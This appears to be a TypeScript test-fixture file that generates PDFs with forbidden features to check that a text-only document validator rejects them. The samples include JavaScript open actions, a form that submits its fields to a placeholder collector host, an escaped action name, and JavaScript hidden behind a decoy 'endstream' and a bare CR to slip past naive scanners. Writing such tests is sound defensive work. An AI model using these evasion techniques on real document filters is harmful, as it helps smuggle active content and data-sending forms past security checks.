import { deflateRawSync, deflateSync } from 'node:zlib';
import { buildPdf, PDF_TEXT } from '../../bench/lib/pdf-writer';

export { buildPdf, PDF_TEXT, type PdfOptions } from '../../bench/lib/pdf-writer';

/** A 1×1 PNG: what must never be held, in whatever wrapper it arrives. */
export const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

/** A stored (uncompressed) ZIP archive holding one PNG. */
export function zipHoldingPng(): Buffer {
  const name = Buffer.from('evidence.png');
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt32LE(PNG_1X1.length, 18);
  header.writeUInt32LE(PNG_1X1.length, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name, PNG_1X1]);
}

const imageObject = (): { dict: string; stream: Buffer } => ({
  dict: '/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8',
  stream: Buffer.from([0, 255, 255, 0]),
});

/** A text PDF with a (document) signature field, as signed bank statements have. */
export const signedPdf = (): Buffer =>
  buildPdf({
    catalog: '/AcroForm << /Fields [6 0 R] /SigFlags 3 >>',
    page: '/Annots [6 0 R]',
    objects: [
      '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /F 132 /Rect [0 0 0 0] /P 3 0 R /V 7 0 R >>',
      `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0 0 0] /Contents <${'00'.repeat(64)}> >>`,
    ],
  });

function adler32(data: Buffer): number {
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
}

/**
 * Zlib data whose first (stored) block holds `decoy` verbatim and whose last
 * block compresses `hidden`: a decoder reads both, a reader stopping at the
 * first `endstream` in the bytes sees only the decoy.
 */
function zlibWithDecoy(decoy: string, hidden: string): Buffer {
  const stored = Buffer.from(decoy, 'latin1');
  const header = Buffer.alloc(5);
  header.writeUInt16LE(stored.length, 1);
  header.writeUInt16LE(~stored.length & 0xffff, 3);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(adler32(Buffer.from(decoy + hidden, 'latin1')));
  return Buffer.concat([
    Buffer.from([0x78, 0x01]),
    header,
    stored,
    deflateRawSync(Buffer.from(hidden, 'latin1')),
    checksum,
  ]);
}

/** One PDF per thing a text-only document must not hold. */
export const FORBIDDEN_PDFS: Record<string, () => Buffer> = {
  'an image XObject': () =>
    buildPdf({
      resources: '/XObject << /Im1 6 0 R >>',
      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET q 100 0 0 100 72 500 cm /Im1 Do Q`,
      objects: [imageObject()],
    }),
  'an image XObject that no page paints': () =>
    buildPdf({ resources: '/XObject << /Im1 6 0 R >>', objects: [imageObject()] }),
  'an inline image': () =>
    buildPdf({
      encode: 'flate',
      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET q 100 0 0 100 72 500 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \x00\xff\xff\x00 EI Q`,
    }),
  // Hex-encoded content is not decoded by the structural scan: pdfjs finds this one.
  'an inline image in hex-encoded content': () =>
    buildPdf({
      encode: 'hex',
      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET q 100 0 0 100 72 500 cm BI /W 2 /H 2 /CS /G /BPC 8 ID \x00\xff\xff\x00 EI Q`,
    }),
  'an image inside a form XObject': () =>
    buildPdf({
      resources: '/XObject << /Fm1 6 0 R >>',
      content: `BT /F1 12 Tf 72 720 Td (${PDF_TEXT}) Tj ET /Fm1 Do`,
      objects: [
        {
          dict: '/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /Im1 7 0 R >> >>',
          stream: Buffer.from('q 100 0 0 100 72 500 cm /Im1 Do Q'),
        },
        imageObject(),
      ],
    }),
  'an embedded file': () =>
    buildPdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(evidence.png) 6 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (evidence.png) /UF (evidence.png) /EF << /F 7 0 R >> >>',
        { dict: '/Type /EmbeddedFile', stream: PNG_1X1 },
      ],
    }),
  'a JavaScript open action': () =>
    buildPdf({
      catalog: '/OpenAction 6 0 R',
      objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'],
    }),
  'a form submitting its fields': () =>
    buildPdf({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 630] /P 3 0 R ' +
          '/A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/submit) >> >> >>',
      ],
    }),
  'a fillable text field': () =>
    buildPdf({
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (10.00) /Rect [72 600 200 630] /P 3 0 R >>',
      ],
    }),
  'a link that submits a form, its name escaped': () =>
    buildPdf({
      page: '/Annots [6 0 R]',
      objects: [
        '<< /Type /Annot /Subtype /Link /Rect [72 600 200 630] /A << /S /Submit#46orm /F (https://collector.example/) >> >>',
      ],
    }),
  'JavaScript hidden in a compressed object stream': () =>
    buildPdf({
      catalog: '/OpenAction 7 0 R',
      objects: [
        {
          dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          stream: deflateSync(Buffer.from('7 0 << /S /JavaScript /JS (app.alert(1)) >>')),
        },
      ],
    }),
  'JavaScript in an object stream behind a false endstream and a bare CR': () =>
    Buffer.from(
      buildPdf({
        catalog: '/OpenAction 7 0 R',
        objects: [
          {
            dict: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
            stream: zlibWithDecoy(
              'endstream\nendobj\n',
              '7 0 << /S /JavaScript /JS (app.alert(1)) >>',
            ),
          },
        ],
      })
        .toString('latin1')
        .replace('>>\nstream\nx', '>>\nstream\rx'),
      'latin1',
    ),
  'an encrypted body': () =>
    buildPdf({
      trailer: `/Encrypt 6 0 R /ID [<${'ab'.repeat(16)}> <${'ab'.repeat(16)}>]`,
      objects: [
        `<< /Filter /Standard /V 1 /R 2 /P -4 /O <${'11'.repeat(32)}> /U <${'22'.repeat(32)}> >>`,
      ],
    }),
};
